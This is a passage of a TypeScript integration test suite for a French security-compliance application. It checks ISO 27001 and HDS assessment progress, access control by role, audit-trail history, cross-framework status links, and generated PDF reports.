      expect(progress.implementedShare).toBe(0);
      const technological = progress.byTheme.find(
        (t: { theme: string }) => t.theme === 'Mesures technologiques',
      );
      expect(technological).toMatchObject({
        themeEn: 'Technological controls',
        total: 34,
        applicable: 33,
        byStatus: { 'not-applicable': 1 },
      });
      expect(progress.overdue).toEqual({
        count: 1,
        items: [expect.objectContaining({ ref: 'A.5.18', dueDate: isoDate(-3), status: 'in-progress' })],
      });
      expect(progress.evidence).toMatchObject({ total: 5, expired: 1, expiringWithinDays: 30 });
      expect(progress.evidence.expiringSoon).toEqual({
        count: 1,
        items: [
          expect.objectContaining({ fileName: 'Politique de sécurité.pdf', requirementRefs: ['A.5.1'] }),
        ],
      });
    });

    it('gives members a summary without evidence or notes', async () => {
      for (const actor of [world.dpoA, world.readerA, world.editorA, world.dpoB]) {
        const summary = await app.http.get(`${API}/assessments/${iso.id}/summary`).set(as(actor));
        expect(summary.status).toBe(200);
        expect(summary.body).toMatchObject({
          id: iso.id,
          frameworkCode: 'iso27001-2022',
          progress: { total: iso.requirementCount, overdueCount: 1, byStatus: { 'in-progress': 2 } },
        });
        const text = JSON.stringify(summary.body);
        expect(text).not.toMatch(/evidence|notes|Revue des droits|sha256|Politique/i);
        const list = await app.http.get(`${API}/assessment-summaries`).set(as(actor));
        expect(list.body.items.map((s: { id: string }) => s.id)).toEqual(
          expect.arrayContaining([iso.id, hds.id]),
        );
        expect(JSON.stringify(list.body)).not.toMatch(/evidence|notes/i);
        expectProblem(await app.http.get(`${API}/assessments/${iso.id}/progress`).set(as(actor)), 403);
      }
    });

    it('shows the progress over time from the audit trail, the last point being the current progress', async () => {
      const opened = await app.http
        .post(`${API}/assessments`)
        .set(as(world.securityOfficer))
        .send({ frameworkCode: 'archives-publiques-2025', name: 'Archives — historique' });
      expect(opened.status).toBe(201);
      const id: string = opened.body.id;
      const [first, second] = [...(await rows(world.securityOfficer, id)).values()];
      expect((await patch(world.securityOfficer, id, first, { status: 'in-progress' })).status).toBe(200);
      expect((await patch(world.securityOfficer, id, second, { status: 'implemented' })).status).toBe(200);
      const firstNow = (await rows(world.securityOfficer, id)).get(first.ref)!;
      // Days pass: the assessment was opened ten days ago, the first two changes made five days ago.
      await app.dataSource.query(
        `UPDATE assessment SET created_at = now() - interval '10 days' WHERE id = $1`,
        [id],
      );
      await app.dataSource.query(
        `UPDATE audit_event SET at = now() - interval '5 days'
         WHERE entity = 'requirement-assessment' AND entity_id = ANY($1)`,
        [[first.id, second.id]],
      );
      expect((await patch(world.securityOfficer, id, firstNow, { status: 'implemented' })).status).toBe(200);
      // A change of another field is no point of the history.
      const firstLast = (await rows(world.securityOfficer, id)).get(first.ref)!;
      expect((await patch(world.securityOfficer, id, firstLast, { notes: 'Relu' })).status).toBe(200);

      const history = await app.http.get(`${API}/assessments/${id}/progress-history`).set(as(world.auditor));
      expect(history.status).toBe(200);
      const day = (offset: number) =>
        new Intl.DateTimeFormat('en-CA', { timeZone: 'Europe/Paris' }).format(
          new Date(Date.now() + offset * 86_400_000),
        );
      expect(history.body).toMatchObject({
        assessmentId: id,
        openedOn: day(-10),
        asOf: day(0),
        truncated: false,
      });
      expect(
        history.body.points.map((p: { date: string; byStatus: object; changes: number }) => [
          p.date,
          p.byStatus,
          p.changes,
        ]),
      ).toEqual([
        [day(-10), { 'not-started': 2, 'in-progress': 0, implemented: 0, 'not-applicable': 0 }, 0],
        [day(-5), { 'not-started': 0, 'in-progress': 1, implemented: 1, 'not-applicable': 0 }, 2],
        [day(0), { 'not-started': 0, 'in-progress': 0, implemented: 2, 'not-applicable': 0 }, 1],
      ]);
      const progress = await app.http.get(`${API}/assessments/${id}/progress`).set(as(world.auditor));
      const last = history.body.points[history.body.points.length - 1];
      expect(last).toMatchObject({
        total: progress.body.total,
        applicable: progress.body.applicable,
        byStatus: progress.body.byStatus,
        implementedShare: 1,
      });

      expectProblem(await app.http.get(`${API}/assessments/${id}/progress-history`).set(as(world.dpoA)), 403);
      expectProblem(
        await app.http.get(`${API}/assessments/${id}/progress-history`).set(as(world.vendorContact)),
        404,
      );
    });
  });

  describe('cross-framework view', () => {
    it("shows each anchored EXI with its ISO clause's status in the current ISO assessment", async () => {
      const clause = isoRows.get('6.1.2')!;
      expect((await patch(world.securityOfficer, iso.id, clause, { status: 'implemented' })).status).toBe(
        200,
      );
      const sub1 = isoRows.get('9.2.1')!;
      expect((await patch(world.securityOfficer, iso.id, sub1, { status: 'implemented' })).status).toBe(200);
      let hdsRows = await rows(world.auditor, hds.id);
      expect(hdsRows.get('EXI-05')!.anchor).toMatchObject({
        label: '6.1.2',
        frameworkCode: 'iso27001-2022',
        current: { assessmentId: iso.id, status: 'implemented' },
      });
      // 9.2 is a parent clause: its status is that of 9.2.1 and 9.2.2 together.
      expect(hdsRows.get('EXI-16')!.anchor!.current).toMatchObject({ status: 'in-progress' });
      expect(hdsRows.get('EXI-02')!.anchor!.current).toMatchObject({ status: 'not-started' });
      expect(hdsRows.get('EXI-17')!.anchor).toMatchObject({ frameworkCode: null, current: null });
      expect(hdsRows.get('EXI-01')!.anchor).toBeNull();

      // A newer ISO assessment becomes the current one; archived, it gives way to the previous one again.
      const newer = await app.http
        .post(`${API}/assessments`)
        .set(as(world.securityOfficer))
        .send({ frameworkCode: 'iso27001-2022', name: 'ISO 27001 — surveillance 2027' });
      hdsRows = await rows(world.auditor, hds.id);
      expect(hdsRows.get('EXI-05')!.anchor!.current).toMatchObject({
        assessmentId: newer.body.id,
        status: 'not-started',
      });
      await app.http
        .patch(`${API}/assessments/${newer.body.id}`)
        .set(as(world.securityOfficer))
        .send({ archived: true, version: newer.body.version })
        .expect(200);
      hdsRows = await rows(world.auditor, hds.id);
      expect(hdsRows.get('EXI-05')!.anchor!.current).toMatchObject({
        assessmentId: iso.id,
        status: 'implemented',
      });
      isoRows = await rows(world.securityOfficer, iso.id);
    });
  });

  describe('PDFs', () => {
    it('renders the Statement of Applicability with every Annex A control, stored as a record', async () => {
      const response = await app.http
        .get(`${API}/assessments/${iso.id}/soa.pdf`)
        .set(as(world.auditor))
        .buffer(true)
        .parse((res, done) => {
          const chunks: Buffer[] = [];
          res.on('data', (chunk: Buffer) => chunks.push(chunk));
          res.on('end', () => done(null, Buffer.concat(chunks)));
        });
      expect(response.status).toBe(200);
      expect(response.headers['content-type']).toMatch(/^application\/pdf/);
      const { text } = await pdfText(response.body as Buffer);
      expect(text).toContain("Déclaration d'applicabilité");
      expect(text).toContain('Mesures technologiques');
      const compact = text.replace(/\s+/g, '');
      for (const control of ISO27001_ANNEX_A) {
        expect(text).toMatch(new RegExp(`A\\.${control.id.replace('.', '\\.')}(?!\\d)`));
        expect(compact).toContain(control.titleFr.replace(/\s+/g, ''));
      }
      expect(compact).toContain('Aucundéveloppementlogicielinterne');
      expect(compact).toContain('Traitementdurisque');
      expect(compact).toContain('Politiquedesécurité.pdf');
      const documents = await app.http
        .get(`${API}/documents?organisationId=${world.operatorId}&kind=soa`)
        .set(as(world.auditor));
      expect(documents.body.items[0]).toMatchObject({ id: response.headers['x-document-id'], kind: 'soa' });
    });

    it('renders the HDS conformity report in French with the cross-framework status', async () => {
      const response = await app.http
        .get(`${API}/assessments/${hds.id}/report.pdf`)
        .set(as(world.securityOfficer))
        .buffer(true)
        .parse((res, done) => {
          const chunks: Buffer[] = [];
          res.on('data', (chunk: Buffer) => chunks.push(chunk));
          res.on('end', () => done(null, Buffer.concat(chunks)));
        });
      expect(response.status).toBe(200);
      const { text } = await pdfText(response.body as Buffer);
      const compact = text.replace(/\s+/g, '');
      expect(text).toContain('Rapport de conformité HDS v2');
      expect(compact).toContain('Activité5—Administrationetexploitation');
      expect(compact).not.toContain('Activité3');
      for (let i = 1; i <= 31; i += 1) expect(text).toContain(`EXI-${String(i).padStart(2, '0')}`);
      expect(compact).toContain('ISO270016.1.2:miseenœuvre');
      expect(compact).toContain('5.ExtensionsduSMSI');
      expect(compact).toContain('6.Clausescontractuelles');
      for (const requirement of HDS_V2.requirements) {
        expect(compact).toContain(requirement.summaryFr.replace(/\s+/g, ''));
      }
      expect(text).not.toContain('Provision and operational upkeep');
    });

    it('names HDS activities 3 and 4 in the report as art. R.1111-9 CSP does', async () => {
      const opened = await app.http
        .post(`${API}/assessments`)
        .set(as(world.securityOfficer))
        .send({ frameworkCode: 'hds-v2', name: 'HDS v2 — infogérance', scope: { hdsActivities: [4, 3] } });
      expect(opened.status).toBe(201);
      const response = await app.http
        .get(`${API}/assessments/${opened.body.id}/report.pdf`)
        .set(as(world.securityOfficer))
        .buffer(true)
        .parse((res, done) => {
          const chunks: Buffer[] = [];
          res.on('data', (chunk: Buffer) => chunks.push(chunk));
          res.on('end', () => done(null, Buffer.concat(chunks)));
        });
      expect(response.status).toBe(200);
      const compact = (await pdfText(response.body as Buffer)).text.replace(/\s+/g, '');
      expect(compact).toContain(
        "Activité3—Miseàdispositionetmaintienenconditionopérationnelledel'infrastructurevirtuelledusystèmed'informationutilisépourletraitementdesdonnéesdesanté",
      );
      expect(compact).toContain(
        "Activité4—Miseàdispositionetmaintienenconditionopérationnelledelaplateformed'hébergementd'applicationsdusystèmed'information",
      );
      expect(compact).not.toContain('Activité1');
      expect(compact).not.toContain('Activité5');
    });

    it('answers 400 for the SoA of a framework without Annex A, 403 to members, 404 to vendors', async () => {
      expectProblem(await app.http.get(`${API}/assessments/${hds.id}/soa.pdf`).set(as(world.auditor)), 400);
      expectProblem(await app.http.get(`${API}/assessments/${iso.id}/soa.pdf`).set(as(world.dpoA)), 403);
      expectProblem(
        await app.http.get(`${API}/assessments/${iso.id}/soa.pdf`).set(as(world.vendorContact)),
        404,
      );
      expectProblem(
        await app.http.get(`${API}/assessments/${hds.id}/report.pdf`).set(as(world.vendorContact)),
        404,
      );
    });
  });
});
